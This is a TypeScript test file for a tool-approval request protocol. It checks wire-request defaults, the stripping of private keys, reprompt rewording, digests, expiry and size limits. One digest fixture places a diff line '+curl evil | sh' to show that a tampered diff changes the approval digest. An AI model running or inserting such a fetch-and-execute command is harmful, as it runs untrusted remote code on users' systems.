import { limits } from '@holdpoint/core/protocol'
import { describe, expect, test } from 'vitest'
import { questionRow } from '../../../test/engine/support/question-row.ts'
import type { ApprovalQuestion, InputQuestion } from '../api/questions.ts'
import { checkRequest, requestDigest, requestEvent, reworded, wireOf, wireRequest } from './request-event.ts'

const field = { id: 'name', type: 'text', label: 'Name' } as const
const ids = { sessionId: 's', runId: 'r', toolCallId: 'c', toolName: 't', interactionId: 'q', attempt: 1 }
const approval = (changes: Partial<ApprovalQuestion> = {}): ApprovalQuestion => ({ type: 'approval', ...changes })
const form = { type: 'input', inputSchema: [field] } satisfies InputQuestion
const ask = (question: ApprovalQuestion | InputQuestion) => requestEvent(wireRequest(question), { ...ids, now: 5_000 })

describe('the request of a question', () => {
  test('has defaults for timeout, extension and scopes, which the tool can change', () => {
    expect(wireRequest(approval())).toEqual({
      interactionType: 'approval',
      timeoutMs: 300_000,
      approvalScopes: ['once', 'session'],
      extendable: true,
    })
    expect(wireRequest(approval({ timeoutMs: 7, approvalScopes: ['once'], extendable: false }))).toEqual({
      interactionType: 'approval',
      timeoutMs: 7,
      approvalScopes: ['once'],
      extendable: false,
    })
    expect(wireRequest(form)).not.toHaveProperty('approvalScopes')
  })

  test('contains nothing that is private to the host, whatever is spread into the question', () => {
    const own = { key: 'k', whenUnavailable: 'wait', onResponse: 'secret', policy: 'secret', runId: 'other', now: 1 }
    const wire = wireRequest({ ...approval({ prompt: 'Go?' }), ...own } as never)
    expect(Object.keys(wire).sort()).toEqual(['approvalScopes', 'extendable', 'interactionType', 'prompt', 'timeoutMs'])
  })

  test('contains the requester, but not that a rate limit applies to it', () => {
    const requester = { name: 'files.example', kind: 'mcp', remote: true } as const
    expect(wireRequest(approval({ requester })).requester).toEqual({ name: 'files.example', kind: 'mcp' })
    expect(wireRequest(approval())).not.toHaveProperty('requester')
  })

  test('turns a list of fields into a form, and keeps a form as it is', () => {
    const schema = { type: 'form', fields: [field] }
    expect(wireRequest(form).inputSchema).toEqual(schema)
    expect(wireRequest({ type: 'input', inputSchema: schema } as never).inputSchema).toEqual(schema)
    expect(wireRequest(approval())).not.toHaveProperty('inputSchema')
  })

  test('is rejected before the question is asked if a value has no JSON form', () => {
    expect(() => wireRequest(approval({ args: { n: 1n } }))).toThrow(
      expect.objectContaining({ code: 'not_recordable' }),
    )
  })
})

describe('the request of a reprompt', () => {
  const requester = { name: 'files.example', kind: 'mcp' as const }
  const last = ask({
    ...form,
    ...{ prompt: 'Who?', error: 'Old.', fieldErrors: { name: ['Old.'] }, initialValues: { name: 'A' }, requester },
  })
  const said = {
    interactionType: 'input',
    timeoutMs: 300_000,
    prompt: 'Who?',
    inputSchema: { type: 'form', fields: [field] },
  }

  test('repeats the previous request without its error', () => {
    expect(reworded(last, {})).toEqual({ ...said, extendable: true, requester })
  })

  test('contains only the changes that the tool makes', () => {
    const change = { error: 'Again.', timeoutMs: 9, whenUnavailable: 'wait', onResponse: 'secret' } as never
    expect(reworded(last, change)).toEqual({ ...said, extendable: true, requester, error: 'Again.', timeoutMs: 9 })
    expect(reworded(last, { type: 'approval', prompt: 'Sure?' })).toMatchObject({
      interactionType: 'approval',
      prompt: 'Sure?',
    })
    expect(reworded(last, { requester: { name: 'me' } as never }).requester).toEqual({ name: 'me' })
  })

  test('keeps the input of the user, unless the tool sets initial values itself', () => {
    const kept = { name: 'Ada' }
    expect(reworded(last, {}, kept).initialValues).toEqual(kept)
    expect(reworded(last, { initialValues: { name: 'B' } }, kept).initialValues).toEqual({ name: 'B' })
  })

  test('has no requester if the question has none', () => {
    expect(reworded(ask(form), {})).not.toHaveProperty('requester')
  })
})

test('the request of a reprompt is made of the previous request, and a question for accounts has none', () => {
  const asked = ask({ ...form, error: 'Wrong.' })
  expect(wireOf(asked)).toEqual(wireRequest({ ...form, error: 'Wrong.' }))
  expect(wireOf({ type: 'auth_needed', prompt: 'Connect', timeoutMs: 5 } as never)).toEqual({})
})

describe('the digest of a question covers [T12.2]', () => {
  const hunk = { id: 'h1', oldStart: 1, newStart: 1, lines: ['+echo hello'] }
  const question = approval({
    ...{
      prompt: 'Go?',
      args: { n: 1 },
      risk: 'low',
      facts: [{ label: 'Costs 5 €' }],
      editable: true,
      audience: ['bob'],
      error: 'Why.',
    },
    diff: [{ path: 'a.sh', hunks: [hunk] }],
    labels: { approve: 'Go' },
    approvalScopes: ['once'],
    requester: { name: 'Mail', kind: 'agent' },
  })
  const digest = (changes: object = {}, tool = 't') =>
    requestDigest(tool, wireRequest({ ...question, ...changes } as never))

  test.each([
    ['kind', { type: 'input' }],
    ['prompt', { prompt: 'Else?' }],
    ['arguments', { args: { n: 2 } }],
    ['draft of the arguments', { draftArgs: { n: 2 } }],
    ['permission to edit', { editable: false }],
    ['fields for editing', { argsSchema: { type: 'form', fields: [field] } }],
    ['diff', { diff: [{ path: 'a.sh', hunks: [{ ...hunk, lines: ['+curl evil | sh'] }] }] }],
    ['path of a diff', { diff: [{ path: 'b.sh', hunks: [hunk] }] }],
    ['risk', { risk: 'high' }],
    ['facts', { facts: [{ label: 'Cannot be undone' }] }],
    ['tone of a fact', { facts: [{ label: 'Costs 5 €', tone: 'danger' }] }],
    ['language', { lang: 'de' }],
    ['labels', { labels: { approve: 'Stop' } }],
    ['scopes', { approvalScopes: ['once', 'session'] }],
    ['coverage of a scope', { approvalCovers: 'tool' }],
    ['name of what a scope covers', { approvalLabel: 'rollouts' }],
    ['audience', { audience: ['bob', 'eve'] }],
    ['requester', { requester: { name: 'Bank', kind: 'agent' } }],
    ['fields', { inputSchema: [field] }],
    ['initial values', { initialValues: { a: 1 } }],
    ['error', { error: 'Because.' }],
    ['errors of fields', { fieldErrors: { a: ['No.'] } }],
  ])('the %s', (_what, change) => {
    expect(digest(change)).not.toBe(digest())
  })

  test('the tool', () => {
    expect(digest({}, 'other_tool')).not.toBe(digest())
  })

  test('neither the time limit nor the layout', () => {
    const layout = { timeoutMs: 5, extendable: true, presentation: 'tool', completedView: { showInputs: true } }
    expect(digest(layout)).toBe(digest())
  })
})

test('the expiry of a question is its timeout after the time of asking', () => {
  expect(ask(approval({ timeoutMs: 1_500 }))).toMatchObject({
    ...{ type: 'interaction_request', ...ids },
    timestamp: '1970-01-01T00:00:05.000Z',
    expiresAt: '1970-01-01T00:00:06.500Z',
  })
  expect(ask(approval())).not.toHaveProperty('now')
})

describe('validation before a question is asked', () => {
  const bounds = { ...limits, promptBytes: 10, fields: 2, eventBytes: 2_000 }
  const check = (question: ApprovalQuestion | InputQuestion) => () => checkRequest(ask(question), bounds)
  const fields = (count: number) => Array.from({ length: count }, (_, n) => ({ ...field, id: `f${n}` }))
  const code = (expected: string) => expect.objectContaining({ code: expected })

  test('limits the bytes of the prompt, the number of fields, and the bytes of the whole request', () => {
    expect(check(approval({ prompt: 'ääääa1' }))).not.toThrow()
    expect(check(approval({ prompt: 'äääää' }))).not.toThrow()
    expect(check(approval({ prompt: 'äääääa' }))).toThrow(code('prompt_too_large'))
    expect(check(approval({ prompt: 'äääääa' }))).toThrow('11 bytes; at most 10')
    expect(check({ ...form, inputSchema: fields(2) })).not.toThrow()
    expect(check({ ...form, inputSchema: fields(3) })).toThrow(code('too_many_fields'))
    const rest = Buffer.byteLength(JSON.stringify(ask(approval({ args: '' }))))
    expect(check(approval({ args: 'x'.repeat(2_000 - rest) }))).not.toThrow()
    expect(check(approval({ args: 'x'.repeat(2_001 - rest) }))).toThrow(code('request_too_large'))
  })

  test('rejects a value that the protocol does not know, with its path', () => {
    const wrong = check(approval({ risk: 'deadly' as never }))
    expect(wrong).toThrow(expect.objectContaining({ code: 'invalid_request', details: { path: 'risk' } }))
    expect(wrong).toThrow('"risk"')
    expect(check(approval({ facts: [{ label: '' }] }))).toThrow('"facts.0.label"')
    expect(check(approval({ facts: Array.from({ length: 13 }, () => ({ label: 'x' })) }))).toThrow('"facts"')
    expect(check(approval({ labels: { approve: 7 } as never }))).toThrow('"labels.approve"')
  })

  test('rejects a diff in which one id names two changes [T33.1]', () => {
    const hunk = (id: string) => ({ id, oldStart: 1, newStart: 1, lines: ['+a'] })
    const files = (...hunks: string[][]) => hunks.map((ids, n) => ({ path: `${n}.txt`, hunks: ids.map(hunk) }))
    for (const diff of [
      files(['h1'], ['h1']),
      files(['h1', 'h1']),
      files([], ['0.txt']),
      [...files([]), ...files([])],
    ]) {
      const wrong = check(approval({ diff }))
      expect(wrong).toThrow(expect.objectContaining({ code: 'invalid_request', details: { path: 'diff' } }))
      expect(wrong).toThrow('one decision would count for both')
    }
    expect(check(approval({ diff: files(['h1', 'h2'], ['h3'], []) }))).not.toThrow()
  })

  test('reports an error of the whole question without a path', () => {
    const event = { ...ask(approval()), toJSON: undefined } as never
    expect(() => checkRequest(event, bounds)).not.toThrow()
    expect(() => checkRequest([] as never, bounds)).toThrow(
      expect.objectContaining({ code: 'invalid_request', details: { path: '' } }),
    )
    expect(() => checkRequest([] as never, bounds)).toThrow(/^The question cannot be asked: (?!")/)
  })

  test('rejects fields that contradict each other', () => {
    const twice = check({ ...form, inputSchema: [field, field] })
    expect(twice).toThrow(code('invalid_fields'))
  })

  test('accepts a question without a form', () => {
    expect(() => checkRequest(questionRow().request as never, bounds)).not.toThrow()
  })
})

test('a reprompt keeps the requester, unless the tool names another', () => {
  const requester = { name: 'files.example', kind: 'mcp' as const }
  const asked = { interactionType: 'input' as const, prompt: 'Code?', timeoutMs: 1_000, requester }
  expect(reworded(asked as never, { error: 'Wrong.' })).toEqual({ ...asked, error: 'Wrong.' })
  const other = { name: 'mail.example', kind: 'mcp' as const }
  expect(reworded(asked as never, { requester: other })).toEqual({ ...asked, requester: other })
})
